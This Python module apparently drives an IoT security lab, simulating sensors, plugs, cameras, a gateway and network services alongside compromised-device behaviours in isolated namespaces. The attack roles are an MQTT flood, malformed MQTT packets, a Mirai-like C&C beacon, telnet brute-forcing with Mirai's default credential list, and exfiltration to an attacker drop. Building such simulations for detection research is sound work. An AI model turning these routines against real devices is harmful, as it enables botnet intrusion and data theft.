"""Processes that run inside the lab's namespaces: device behaviours, services, bot actions.

Run as ``python -m ztfm.lab.agents ROLE JSON`` inside a namespace (``ip netns exec``). Every loop
is bounded twice: by the ``until`` deadline (epoch seconds) and by an iteration cap. Randomness
comes from a ``np.random.Generator`` seeded from the plan, so a seed gives the same behaviour
schedule. These are edge processes: they read the real clock and open real sockets, but only on
the lab's private subnet inside namespaces that have no route out.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import signal
import socket
import socketserver
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

import numpy as np

from ztfm.lab import mqtt

MAX_ITER = 1_000_000
PLUG_USER = "admin"
TELNET_PORTS = (23, 2323)
CNC_PORT = 6667
EXFIL_PORT = 8443
UDP_SINK_PORT = 5004
DNS_NAMES = ("fw.lab", "time.lab", "api.lab", "mqtt.lab")
MIRAI_CREDS = (
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "default"),
    ("support", "support"),
    ("user", "user"),
    ("root", "12345"),
)

_stop = threading.Event()


def _on_term(signum: int, frame: object) -> None:
    _stop.set()


def _left(until: float) -> float:
    return until - time.time()


def _sleep(seconds: float, until: float) -> bool:
    """Sleep ``seconds`` (capped at the deadline); False once the deadline or a stop is reached."""
    wait = min(max(seconds, 0.0), _left(until))
    if wait <= 0:
        return False
    _stop.wait(wait)
    return not _stop.is_set() and _left(until) > 0


# --- small servers --------------------------------------------------------------------------------
class _ThreadingUDP(socketserver.ThreadingUDPServer):
    allow_reuse_address = True
    daemon_threads = True


class _ThreadingTCP(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def _serve(server: socketserver.BaseServer) -> None:
    threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True
    ).start()


def _dns_answer(query: bytes, table: dict[str, str]) -> bytes | None:
    if len(query) < 12:
        return None
    qid, flags, qd = struct.unpack("!HHH", query[:6])
    if qd != 1 or flags & 0x8000:
        return None
    labels: list[str] = []
    i = 12
    while i < len(query) and query[i] != 0 and len(labels) < 64:
        n = query[i]
        labels.append(query[i + 1 : i + 1 + n].decode("ascii", "replace"))
        i += 1 + n
    end = i + 5
    if end > len(query):
        return None
    question = query[12:end]
    name = ".".join(labels).lower()
    ip = table.get(name)
    if ip is None:
        return struct.pack("!HHHHHH", qid, 0x8183, 1, 0, 0, 0) + question
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(ip)
    return struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + question + answer


def _ntp_reply(request: bytes) -> bytes | None:
    if len(request) < 48:
        return None
    now = time.time() + 2208988800
    sec, frac = int(now), int((now % 1) * 2**32)
    reply = bytearray(48)
    reply[0] = (0 << 6) | (4 << 3) | 4  # no leap, v4, server
    reply[1] = 2  # stratum
    reply[24:32] = request[40:48]  # originate = client's transmit
    reply[32:40] = struct.pack("!II", sec, frac)
    reply[40:48] = struct.pack("!II", sec, frac)
    return bytes(reply)


def run_services(cfg: dict[str, Any]) -> None:
    """DNS, NTP, HTTPS firmware server, camera UDP sink and the smart-plug controller."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    table = {n: cfg["services_ip"] for n in DNS_NAMES}

    class Dns(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            data, sock = self.request
            ans = _dns_answer(data, table)
            if ans is not None:
                sock.sendto(ans, self.client_address)

    class Ntp(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            data, sock = self.request
            rep = _ntp_reply(data)
            if rep is not None:
                sock.sendto(rep, self.client_address)

    class Sink(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            pass

    class Firmware(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = json.dumps(
                {"version": "1.4.2", "sha256": "0" * 64, "url": "https://fw.lab/fw-1.4.2.bin"}
            ).encode()
            code = 200 if self.path.startswith("/firmware/") else 404
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    ip = cfg["services_ip"]
    _serve(_ThreadingUDP((ip, 53), Dns))
    _serve(_ThreadingUDP((ip, 123), Ntp))
    _serve(_ThreadingUDP((ip, UDP_SINK_PORT), Sink))
    https = http.server.ThreadingHTTPServer((ip, 443), Firmware)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cfg["cert"], cfg["key"])
    https.socket = ctx.wrap_socket(https.socket, server_side=True)
    _serve(https)

    plugs: list[str] = list(cfg.get("plugs", []))
    auth = "Basic " + base64.b64encode(f"{PLUG_USER}:{cfg['plug_password']}".encode()).decode()
    for _ in range(MAX_ITER):
        if not plugs:
            if not _sleep(1.0, until):
                break
            continue
        for plug_ip in plugs:
            method = "POST" if rng.random() < 0.1 else "GET"
            path = "/relay/toggle" if method == "POST" else "/status"
            with (
                contextlib.suppress(OSError),
                socket.create_connection((plug_ip, 80), timeout=2) as s,
            ):
                s.sendall(
                    f"{method} {path} HTTP/1.1\r\nHost: {plug_ip}\r\n"
                    f"Authorization: {auth}\r\nConnection: close\r\n"
                    "Content-Length: 0\r\n\r\n".encode()
                )
                s.settimeout(2)
                while s.recv(4096):
                    pass
        if not _sleep(float(rng.uniform(1.5, 3.5)), until):
            break


def run_attacker_server(cfg: dict[str, Any]) -> None:
    """The bot herder's C&C server and the exfiltration drop, on the attacker host."""
    until = float(cfg["until"])

    class Cnc(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(5)
            with contextlib.suppress(OSError):
                for _ in range(1000):
                    data = self.request.recv(512)
                    if not data:
                        break
                    self.request.sendall(b"\x00\x00")  # keep-alive: no command

    class Drop(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(5)
            with contextlib.suppress(OSError):
                for _ in range(100_000):
                    if not self.request.recv(65536):
                        break

    _serve(_ThreadingTCP((cfg["attacker_ip"], CNC_PORT), Cnc))
    _serve(_ThreadingTCP((cfg["attacker_ip"], EXFIL_PORT), Drop))
    while _sleep(1.0, until):
        pass


# --- devices --------------------------------------------------------------------------------------
def _mqtt_session(broker: str, client_id: str, timeout_s: float = 3.0) -> socket.socket:
    s = socket.create_connection((broker, 1883), timeout=timeout_s)
    s.sendall(mqtt.connect(client_id, keepalive_s=30))
    s.recv(4)  # CONNACK
    return s


def run_sensor(cfg: dict[str, Any]) -> None:
    """Temperature/humidity sensor: one MQTT session, QoS 0 publishes at jittered intervals."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    period = float(rng.uniform(2.0, 5.0))
    temp, hum = float(rng.uniform(18, 26)), float(rng.uniform(30, 60))
    sock: socket.socket | None = None
    last_ping = time.time()
    for i in range(MAX_ITER):
        try:
            if sock is None:
                sock = _mqtt_session(cfg["services_ip"], cfg["name"])
                last_ping = time.time()
            temp += float(rng.normal(0, 0.1))
            hum = min(100.0, max(0.0, hum + float(rng.normal(0, 0.3))))
            topic = f"lab/{cfg['name']}/telemetry"
            payload = json.dumps({"seq": i, "temp_c": round(temp, 2), "rh": round(hum, 1)})
            sock.sendall(mqtt.publish(topic, payload.encode()))
            if time.time() - last_ping > 20:
                sock.sendall(mqtt.pingreq())
                last_ping = time.time()
        except OSError:
            if sock is not None:
                sock.close()
            sock = None
        if not _sleep(period * float(rng.uniform(0.7, 1.3)), until):
            break
    if sock is not None:
        with contextlib.suppress(OSError):
            sock.sendall(mqtt.disconnect())
        sock.close()


def _telnet_service(ip: str) -> None:
    """A default-credential telnet login prompt, as on many cheap IoT devices."""

    class Telnet(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(5)
            with contextlib.suppress(OSError):
                for _ in range(3):
                    self.request.sendall(b"login: ")
                    if not self.request.recv(128):
                        return
                    self.request.sendall(b"Password: ")
                    if not self.request.recv(128):
                        return
                    self.request.sendall(b"\r\nLogin incorrect\r\n")

    _serve(_ThreadingTCP((ip, 23), Telnet))


def run_plug(cfg: dict[str, Any]) -> None:
    """Smart plug: HTTP API with basic auth (polled by the controller) and a telnet prompt."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    expected = "Basic " + base64.b64encode(f"{PLUG_USER}:{cfg['plug_password']}".encode()).decode()
    state = {"on": True, "watts": float(rng.uniform(5, 60))}
    lock = threading.Lock()

    class Api(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def _reply(self, code: int, body: dict[str, Any]) -> None:
            raw = json.dumps(body).encode()
            self.send_response(code)
            if code == 401:
                self.send_header("WWW-Authenticate", 'Basic realm="plug"')
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

        def _authorised(self) -> bool:
            if self.headers.get("Authorization") != expected:
                self._reply(401, {"error": "unauthorised"})
                return False
            return True

        def do_GET(self) -> None:
            if self._authorised():
                with lock:
                    state["watts"] = max(0.0, state["watts"] + float(rng.normal(0, 0.5)))
                    self._reply(
                        200, {"on": state["on"], "power_w": round(state["watts"] * state["on"], 2)}
                    )

        def do_POST(self) -> None:
            if self._authorised():
                with lock:
                    state["on"] = not state["on"]
                    self._reply(200, {"on": state["on"]})

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer((cfg["ip"], 80), Api)
    server.daemon_threads = True
    _serve(server)
    _telnet_service(cfg["ip"])
    while _sleep(1.0, until):
        pass


def run_camera(cfg: dict[str, Any]) -> None:
    """Camera: a UDP video stream (RTP-like headers, keyframe bursts) to the services host."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    _telnet_service(cfg["ip"])
    fps = int(rng.integers(8, 13))
    ssrc = int(rng.integers(0, 2**32))
    dest = (cfg["services_ip"], UDP_SINK_PORT)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        seq = 0
        for frame in range(MAX_ITER):
            n_pkts = 4 if frame % (fps * 2) == 0 else 1  # keyframe every 2 s
            for _ in range(n_pkts):
                size = int(rng.integers(300, 1100)) if n_pkts == 1 else 1200
                hdr = struct.pack(
                    "!BBHII", 0x80, 96, seq & 0xFFFF, (frame * 9000) & 0xFFFFFFFF, ssrc
                )
                with contextlib.suppress(OSError):
                    s.sendto(hdr + bytes(size), dest)
                seq += 1
            if not _sleep(1.0 / fps, until):
                break


def _dns_query(name: str, server: str, qid: int) -> str | None:
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
    q += struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1.0)
        s.sendto(q, (server, 53))
        try:
            data = s.recv(512)
        except OSError:
            return None
    if len(data) >= len(q) + 16 and data[3] & 0x0F == 0:
        return socket.inet_ntoa(data[-4:])
    return None


def run_gateway(cfg: dict[str, Any]) -> None:
    """Gateway: DNS look-ups, NTP sync and HTTPS firmware-update checks against the lab CA."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    srv = cfg["services_ip"]
    ctx = ssl.create_default_context(cafile=cfg["ca"])
    next_ntp = next_fw = time.time() + float(rng.uniform(0, 5))
    for _ in range(MAX_ITER):
        now = time.time()
        with contextlib.suppress(OSError):
            _dns_query(str(rng.choice(DNS_NAMES)), srv, int(rng.integers(0, 65536)))
        if now >= next_ntp:
            with (
                contextlib.suppress(OSError),
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s,
            ):
                s.settimeout(1.0)
                s.sendto(b"\x23" + bytes(47), (srv, 123))
                s.recv(48)
            next_ntp = now + float(rng.uniform(14, 18))
        if now >= next_fw:
            ip = _dns_query("fw.lab", srv, int(rng.integers(0, 65536))) or srv
            with (
                contextlib.suppress(OSError, ssl.SSLError),
                socket.create_connection((ip, 443), timeout=3) as raw,
                ctx.wrap_socket(raw, server_hostname="fw.lab") as tls,
            ):
                tls.sendall(
                    b"GET /firmware/latest.json HTTP/1.1\r\nHost: fw.lab\r\n"
                    b"Connection: close\r\n\r\n"
                )
                while tls.recv(4096):
                    pass
            next_fw = now + float(rng.uniform(25, 35))
        if not _sleep(float(rng.uniform(3.0, 6.0)), until):
            break


# --- actions of a compromised device --------------------------------------------------------------
def run_mqtt_flood(cfg: dict[str, Any]) -> None:
    """Publish flood to the broker from a compromised sensor, rate-bounded."""
    until, rate = float(cfg["until"]), float(cfg.get("rate_pps", 200))
    with contextlib.suppress(OSError), _mqtt_session(cfg["services_ip"], f"{cfg['name']}-x") as s:
        for i in range(int(rate * max(_left(until), 0)) + 1):
            s.sendall(mqtt.publish(f"lab/{cfg['name']}/telemetry", b"A" * 64 + str(i).encode()))
            if not _sleep(1.0 / rate, until):
                break


def run_mqtt_malformed(cfg: dict[str, Any]) -> None:
    """Malformed MQTT packets, one fresh connection each (the broker drops the connection)."""
    until = float(cfg["until"])
    for i in range(MAX_ITER):
        with (
            contextlib.suppress(OSError),
            socket.create_connection((cfg["services_ip"], 1883), timeout=1) as s,
        ):
            s.sendall(mqtt.malformed(i))
            s.settimeout(0.3)
            with contextlib.suppress(OSError):
                s.recv(16)
        if not _sleep(0.1, until):
            break


def run_cnc_beacon(cfg: dict[str, Any]) -> None:
    """Mirai-like bot: connects to its C&C, sends a registration, then small heartbeats."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    for _ in range(MAX_ITER):
        with (
            contextlib.suppress(OSError),
            socket.create_connection((cfg["attacker_ip"], CNC_PORT), timeout=2) as s,
        ):
            s.sendall(b"\x00\x00\x00\x01" + bytes([len(cfg["name"])]) + cfg["name"].encode())
            s.settimeout(2)
            for _ in range(5):
                if not _sleep(float(rng.uniform(0.5, 1.0)), until):
                    break
                s.sendall(b"\x00\x00")
                s.recv(2)
        if not _sleep(float(rng.uniform(0.2, 0.5)), until):
            break


def run_telnet_propagation(cfg: dict[str, Any]) -> None:
    """Scan the lab subnet for telnet and try Mirai's default credentials on open ports."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    targets = [t for t in cfg["scan_ips"] if t != cfg["ip"]]
    for _ in range(MAX_ITER):
        ip = str(rng.choice(targets))
        port = TELNET_PORTS[int(rng.integers(0, 10)) == 0]
        with contextlib.suppress(OSError), socket.create_connection((ip, port), timeout=0.5) as s:
            s.settimeout(1)
            user, pw = MIRAI_CREDS[int(rng.integers(len(MIRAI_CREDS)))]
            s.recv(64)
            s.sendall(user.encode() + b"\r\n")
            s.recv(64)
            s.sendall(pw.encode() + b"\r\n")
            s.recv(64)
        if not _sleep(0.05, until):
            break


def run_exfil(cfg: dict[str, Any]) -> None:
    """Low-rate exfiltration: a few hundred bytes every couple of seconds to the drop."""
    until = float(cfg["until"])
    rng = np.random.default_rng(int(cfg["seed"]))
    secret = bytes(rng.integers(0, 256, size=4096, dtype=np.uint8))
    pos = 0
    with (
        contextlib.suppress(OSError),
        socket.create_connection((cfg["attacker_ip"], EXFIL_PORT), timeout=2) as s,
    ):
        for _ in range(MAX_ITER):
            n = int(rng.integers(100, 300))
            s.sendall(secret[pos : pos + n])
            pos = (pos + n) % len(secret)
            if not _sleep(float(rng.uniform(1.5, 3.0)), until):
                break


ROLES: dict[str, Callable[[dict[str, Any]], None]] = {
    "services": run_services,
    "attacker_server": run_attacker_server,
    "sensor": run_sensor,
    "plug": run_plug,
    "camera": run_camera,
    "gateway": run_gateway,
    "mqtt_flood": run_mqtt_flood,
    "mqtt_malformed": run_mqtt_malformed,
    "cnc_beacon": run_cnc_beacon,
    "telnet_propagation": run_telnet_propagation,
    "exfil": run_exfil,
}


def main(argv: list[str]) -> int:
    if len(argv) != 2 or argv[0] not in ROLES:
        print(f"usage: python -m ztfm.lab.agents {{{','.join(ROLES)}}} JSON", file=sys.stderr)
        return 2
    cfg = json.loads(argv[1])
    signal.signal(signal.SIGTERM, _on_term)
    signal.signal(signal.SIGINT, _on_term)
    start = float(cfg.get("start", 0))
    if start > time.time() and not _sleep(start - time.time(), float(cfg["until"])):
        return 0
    ROLES[argv[0]](cfg)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
